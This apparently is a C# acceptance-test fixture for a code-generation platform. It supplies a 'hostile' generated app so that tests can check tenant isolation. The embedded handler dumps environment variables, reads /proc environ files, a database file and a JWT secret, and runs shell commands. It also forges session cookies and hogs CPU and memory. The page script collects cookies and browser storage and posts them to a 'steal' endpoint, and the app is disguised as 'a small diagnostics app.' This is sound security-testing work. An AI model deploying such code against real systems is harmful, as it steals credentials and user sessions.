using System.Text.Json.Nodes;
using PromptStack.Blueprints;

namespace PromptStack.IntegrationTests.Acceptance;

/// <summary>
/// What a hostile model answers: a blueprint that passes validation (it is well-formed generated code exporting
/// <c>handler</c>) but whose handler and page try everything a tenant must not do. Validation is not the defence.
/// </summary>
public static class HostileBlueprint
{
    /// <summary>The prompt keyword that makes <see cref="StubModelServer"/> answer this blueprint.</summary>
    public const string Keyword = "probe kit";

    public const string Template = "probe-kit";

    // One handler dispatching on the path: one provision serves every probe.
    public const string Handler = """
        import fs from 'node:fs';
        import { execSync } from 'node:child_process';
        import { DynamoDBClient } from '@aws-sdk/client-dynamodb';
        import { DynamoDBDocumentClient, PutCommand, QueryCommand } from '@aws-sdk/lib-dynamodb';
        const endpoint = process.env.AWS_ENDPOINT_URL || undefined;
        const db = DynamoDBDocumentClient.from(new DynamoDBClient(endpoint ? { endpoint } : {}));
        const probe = (f) => { try { return { ok: String(f()).slice(0, 4000) }; } catch (e) { return { error: e.code ?? String(e) }; } };
        const json = (body, headers = {}) => ({ statusCode: 200, headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(body) });
        export const handler = async (event) => {
          const route = event.rawPath.replace(/^\/+/, '');
          const dir = (event.queryStringParameters || {}).dir || '/';
          switch (route) {
            case 'env': return json(process.env);
            case 'files': return json({
              list: probe(() => fs.readdirSync(dir).join(',')),
              database: probe(() => fs.readFileSync(dir + '/promptstack.db', 'latin1')),
              secret: probe(() => fs.readFileSync(dir + '/jwt-secret', 'utf8')),
              environ: probe(() => fs.readFileSync('/proc/self/environ', 'latin1')),
              parentEnviron: probe(() => fs.readFileSync('/proc/' + process.ppid + '/environ', 'latin1')),
            });
            case 'spawn': return json({ id: probe(() => execSync('id').toString()) });
            case 'write': return json({
              tmp: probe(() => fs.writeFileSync('/tmp/promptstack-hostile-write.txt', 'x')),
              own: probe(() => fs.writeFileSync(new URL('./dropped.txt', import.meta.url), 'x')),
              data: probe(() => fs.writeFileSync(dir + '/dropped.txt', 'x')),
            });
            case 'cookie': return {
              statusCode: 200,
              headers: { 'content-type': 'application/json', 'set-cookie': 'promptstack.session=stolen; Path=/', 'Set-Cookie': 'ps_preview=forged; Path=/' },
              cookies: ['promptstack.session=stolen; Path=/; Domain=localhost', 'ps_preview=forged; Path=/'],
              body: '{"set":true}',
            };
            case 'echo': return json(event.headers);
            case 'loop': for (;;) {} // eslint-disable-line no-constant-condition
            case 'alloc': { const hog = []; for (let i = 0; i < 2048; i++) hog.push(Buffer.alloc(1024 * 1024, 1)); return json({ held: hog.length }); }
            case 'steal':
              await db.send(new PutCommand({ TableName: process.env.TABLE_NAME, Item: { pk: 'stolen', sk: `${Date.now()}-${Math.random()}`, loot: event.body ?? '' } }));
              return json({ stored: true });
            case 'stolen': {
              const found = await db.send(new QueryCommand({ TableName: process.env.TABLE_NAME, KeyConditionExpression: 'pk = :p', ExpressionAttributeValues: { ':p': 'stolen' } }));
              return json({ items: (found.Items || []).map(i => i.loot) });
            }
            default: return { statusCode: 404, headers: { 'content-type': 'application/json' }, body: '{"error":"no such probe"}' };
          }
        };
        """;

    // The page runs on the preview origin in whoever opens it; CSP allows only same-origin scripts, so no inline code.
    public const string Page = """
        <!doctype html><html><head><meta charset="utf-8"><title>Probe kit</title></head>
        <body><h1 id="title">Probe kit</h1><pre id="out"></pre><script src="app.js"></script></body></html>
        """;

    public const string Script = """
        (async () => {
          const loot = { cookie: document.cookie, local: {}, session: {}, origin: location.origin, href: location.href };
          try { for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); loot.local[k] = localStorage.getItem(k); } } catch (e) { loot.local = String(e); }
          try { for (let i = 0; i < sessionStorage.length; i++) { const k = sessionStorage.key(i); loot.session[k] = sessionStorage.getItem(k); } } catch (e) { loot.session = String(e); }
          try { loot.opener = window.opener ? String(window.opener.document.cookie) : null; } catch (e) { loot.opener = 'blocked: ' + e.name; }
          let status = 'error';
          try { status = String((await fetch('api/steal', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(loot) })).status); } catch (e) { status = 'error ' + e; }
          document.getElementById('out').textContent = JSON.stringify(loot);
          document.body.dataset.stolen = status;
          document.body.dataset.origin = location.origin;
        })();
        """;

    /// <summary>The model's answer: the blueprint document as JSON text.</summary>
    public static string Answer() => new JsonObject
    {
        ["template"] = Template,
        ["title"] = "Probe Kit",
        ["summary"] = "A small diagnostics app.",
        ["resources"] = new JsonArray(BlueprintValidator.ResourceNames
            .Select(r => (JsonNode)new JsonObject { ["kind"] = r.Key, ["name"] = r.Value }).ToArray()),
        ["files"] = new JsonArray(
            new JsonObject { ["path"] = "index.html", ["contentType"] = "text/html; charset=utf-8", ["content"] = Page },
            new JsonObject { ["path"] = "app.js", ["contentType"] = "application/javascript", ["content"] = Script }),
        ["handlerCode"] = Handler,
    }.ToJsonString();
}
